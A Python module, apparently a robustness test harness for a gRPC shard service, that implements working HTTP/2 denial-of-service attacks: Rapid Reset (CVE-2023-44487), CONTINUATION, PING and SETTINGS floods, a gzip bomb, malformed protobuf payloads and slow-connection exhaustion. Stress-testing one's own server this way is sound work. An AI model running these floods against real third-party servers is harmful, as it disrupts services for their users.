"""What hostile peers do to a port: each attack is a function (target, sent, over).

`target` opens connections, `sent` is a Counter of what was sent, and `over()` says when to stop. An
attack goes on with a new connection when the server has closed one. Nobody reads what the server
says, unless an attack is about reading.
"""

from __future__ import annotations

import contextlib
import random
import socket
import ssl
import struct
import time
import zlib
from collections import Counter
from collections.abc import Callable, Sequence

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MAX_FRAME = 16384
CANCEL = 8
_SHARD = "/dslide.v1.ShardService/"
_SEND_SECONDS = 2.0
_BATCH = 64 * 1024
# Of a flood that does not end by itself, on one connection.
CONTINUATION_BYTES = 64 << 20


# Attacks a target until told that it is over; counts what it sends.
Attack = Callable[["Target", Counter[str], Callable[[], bool]], None]


class Target:
    """A server's port; `tls`: an ssl.SSLContext, None for plaintext."""

    def __init__(self, address: str, tls: ssl.SSLContext | None = None) -> None:
        host, _, port = address.rpartition(":")
        self._place = host, int(port)
        self._tls = tls

    def tcp(self) -> socket.socket:
        """A connection over which nothing was said."""
        connection = socket.create_connection(self._place, timeout=_SEND_SECONDS)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return connection

    def open(self) -> socket.socket:
        """A connection, encrypted where the port wants it. OSError when it is refused."""
        connection = self.tcp()
        if self._tls is None:
            return connection
        try:
            return self._tls.wrap_socket(connection, server_hostname="localhost")
        except (OSError, ssl.SSLError):
            connection.close()
            raise

    def http2(self, settings: dict[int, int] | None = None) -> socket.socket:
        """As open(), with HTTP/2's introduction said."""
        connection = self.open()
        try:
            connection.sendall(PREFACE + SettingsFrame(0, settings or {}).serialize())
        except OSError:
            connection.close()
            raise
        return connection


def _literals(headers: Sequence[tuple[str, str]]) -> bytes:
    """A block that changes no table: sent again it is as long."""
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*one) for one in headers],
                                  huffman=False)


def _opening(stream: int, block: bytes, *flags: str) -> bytes:
    return HeadersFrame(stream, block, flags=["END_HEADERS", *flags]).serialize()


def _headers(method: str = _SHARD + "GetServerInfo", content_type: str = "application/grpc",
             extra: Sequence[tuple[str, str]] = ()) -> bytes:
    return _literals([
        (":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "localhost"),
        ("te", "trailers"), ("content-type", content_type), *extra])


def _again(body: Attack) -> Attack:
    """The attack `body(connection...)` again and again, over new connections."""

    def attack(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
        while not over():
            try:
                body(target, sent, over)
            except (OSError, ssl.SSLError, ValueError):
                sent["closed"] += 1
                time.sleep(0.005)  # whoever is refused at once must not spin

    attack.__name__, attack.__doc__ = body.__name__, body.__doc__
    return attack


def _flood(target: Target, sent: Counter[str], over: Callable[[], bool], what: str,
           chunk: Callable[[], bytes], settings: dict[int, int] | None = None, count: int = 1,
           limit: int | None = None) -> None:
    """Sends `chunk()` again and again over one connection."""
    with target.http2(settings) as connection:
        total = 0
        while not over() and (limit is None or total < limit):
            data = chunk()
            connection.sendall(data)
            total += len(data)
            sent[what] += count
            sent["bytes"] += len(data)


# --- floods of frames ----------------------------------------------------------------------------


@_again
def rapid_reset(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    block = _headers()
    streams = iter(range(1, 1 << 31, 2))

    def chunk() -> bytes:
        return b"".join(
            _opening(stream, block) + RstStreamFrame(stream, CANCEL).serialize()
            for stream in (next(streams) for _ in range(200)))

    _flood(target, sent, over, "streams", chunk, count=200)


@_again
def continuation_flood(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
    """A header block that never ends, 64 MiB a connection."""
    with target.http2() as connection:
        connection.sendall(HeadersFrame(1, _headers()).serialize())
        frame = ContinuationFrame(1, _literals([("x", "y" * 100)] * 150)).serialize()
        total = 0
        while not over() and total < CONTINUATION_BYTES:
            connection.sendall(frame * 4)
            total += 4 * len(frame)
            sent["bytes"] += 4 * len(frame)


@_again
def ping_flood(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
    """PINGs, which have to be answered."""
    chunk = PingFrame(0, b"abcdefgh").serialize() * 1000
    _flood(target, sent, over, "pings", lambda: chunk, count=1000)


@_again
def settings_flood(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
    """SETTINGS, which have to be confirmed."""
    chunk = SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize() * 1000
    _flood(target, sent, over, "settings", lambda: chunk, count=1000)


@_again
def empty_frames(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
    """DATA frames without data, on a stream that stays open."""
    parts = iter([_opening(1, _headers(_SHARD + "Scatter"))])
    chunk = DataFrame(1).serialize() * 1000
    _flood(target, sent, over, "frames", lambda: next(parts, chunk), count=1000)


# --- what is no gRPC -----------------------------------------------------------------------------


@_again
def bad_preface(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
    """Bytes of no protocol, and another protocol's."""
    source = random.Random(sent["connections"])
    with target.open() as connection:
        connection.sendall(source.choice((source.randbytes(4096), b"GET / HTTP/1.1\r\n\r\n",
                                          PREFACE[:-1] + b"x" * 100)))
        sent["connections"] += 1
        connection.recv(1)


@_again
def wrong_content_type(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
    """Calls that are no gRPC calls, 50 a connection."""
    with target.http2() as connection:
        for stream in range(1, 101, 2):
            connection.sendall(_opening(
                stream, _headers(content_type=("text/plain", "", "application/json")[stream % 3]),
                "END_STREAM"))
            sent["calls"] += 1
        time.sleep(0.02)


# --- messages ------------------------------------------------------------------------------------


def _call(connection: socket.socket, stream: int, method: str, body: bytes,
          extra: Sequence[tuple[str, str]] = ()) -> None:
    """A call with a body of at most a window, its end included."""
    data = _opening(stream, _headers(method, extra=extra))
    for at in range(0, len(body), MAX_FRAME):
        part = body[at:at + MAX_FRAME]
        last = at + len(part) == len(body)
        data += DataFrame(stream, part, flags=["END_STREAM"] if last else []).serialize()
    connection.sendall(data)


def _calls(target: Target, sent: Counter[str], over: Callable[[], bool], method: str, body: bytes,
           extra: Sequence[tuple[str, str]] = ()) -> None:
    """The same call, some times a connection; windows of 64 KiB are not waited for."""
    with target.http2() as connection:
        for stream in range(1, 41, 2):
            if over():
                return
            _call(connection, stream, method, body, extra)
            sent["calls"] += 1
            time.sleep(0.002)


def _prefixed(message: bytes, compressed: int = 0) -> bytes:
    return struct.pack(">BI", compressed, len(message)) + message


@_again
def giant_length(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
    """Messages that claim to have 2 GiB or 4 GiB, and begin."""
    said = (0x7FFFFFFF, 0x80000000, 0xFFFFFFFF)[sent["calls"] % 3]
    _calls(target, sent, over, _SHARD + "Scatter", struct.pack(">BI", 0, said) + bytes(1000))


def _gzip(plain: bytes) -> bytes:
    packer = zlib.compressobj(1, zlib.DEFLATED, 31)
    return packer.compress(plain) + packer.flush()


_BOMB = _gzip(bytes(16 << 20))


@_again
def compressed_bomb(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
    """16 MiB of zeros in 70 KiB of gzip."""
    _calls(target, sent, over, _SHARD + "CreateModel", _prefixed(_BOMB, compressed=1),
           [("grpc-encoding", "gzip")])


@_again
def deep_nesting(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
    """10,000 groups within each other."""
    _calls(target, sent, over, _SHARD + "Hello", _prefixed(b"\x7b" * 10_000 + b"\x7c" * 10_000))


@_again
def varint_bomb(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
    """Numbers that do not end, where a method wants a message of its own."""
    method = (_SHARD + "Hello", _SHARD + "Step", _SHARD + "Gather")[sent["calls"] % 3]
    _calls(target, sent, over, method, _prefixed(b"\x18" + b"\xff" * 30_000))


# --- slow peers ----------------------------------------------------------------------------------


def _hold(target: Target, over: Callable[[], bool], opening: Callable[[Target], socket.socket],
          count: int, sent: Counter[str]) -> None:
    """Opens `count` connections by `opening` and keeps them; those that are closed are replaced."""
    held: list[socket.socket] = []
    with contextlib.ExitStack() as stack:
        while not over():
            if len(held) < count:
                try:
                    held.append(stack.enter_context(opening(target)))
                    sent["connections"] += 1
                except (OSError, ssl.SSLError):
                    sent["closed"] += 1
                    time.sleep(0.005)
            else:
                time.sleep(0.05)


def idle_sockets(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
    """1,000 connections that say nothing."""
    _hold(target, over, Target.tcp, 1000, sent)


def half_open_handshakes(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
    """200 connections that begin to introduce themselves, and do not go on."""

    def opening(target: Target) -> socket.socket:
        connection = target.tcp()
        # The head of a TLS handshake record, which is a beginning of nothing without TLS, too.
        connection.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
        return connection

    _hold(target, over, opening, 200, sent)


@_again
def slow_writer(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
    """50 connections with a message each that comes one byte at a time."""
    with contextlib.ExitStack() as stack:
        held = [stack.enter_context(target.http2()) for _ in range(50)]
        for connection in held:
            connection.sendall(_opening(1, _headers(_SHARD + "Scatter")))
        message = _prefixed(bytes(4 << 10))
        for byte in message:
            for connection in held:
                connection.sendall(DataFrame(1, bytes([byte])).serialize())
                sent["bytes"] += 1
            if over():
                return
            time.sleep(0.1)


@_again
def slow_reader(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
    """50 connections with 60 calls each whose answers are not read, in windows of one byte."""
    with contextlib.ExitStack() as stack:
        held = [stack.enter_context(target.http2({SettingsFrame.INITIAL_WINDOW_SIZE: 1}))
                for _ in range(50)]
        for connection in held:
            connection.sendall(b"".join(
                _opening(stream, _headers())
                + DataFrame(stream, _prefixed(b""), flags=["END_STREAM"]).serialize()
                for stream in range(1, 121, 2)))
            sent["calls"] += 60
        while not over():
            time.sleep(0.1)


def busy_neighbour(_target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
    """No attack: computes beside the server, as the attacks do."""
    while not over():
        sent["rounds"] += sum(range(1000)) > 0


ATTACKS = (busy_neighbour, rapid_reset, continuation_flood, ping_flood, settings_flood,
           empty_frames, bad_preface, wrong_content_type, giant_length, compressed_bomb,
           deep_nesting, varint_bomb, idle_sockets, half_open_handshakes, slow_writer,
           slow_reader)
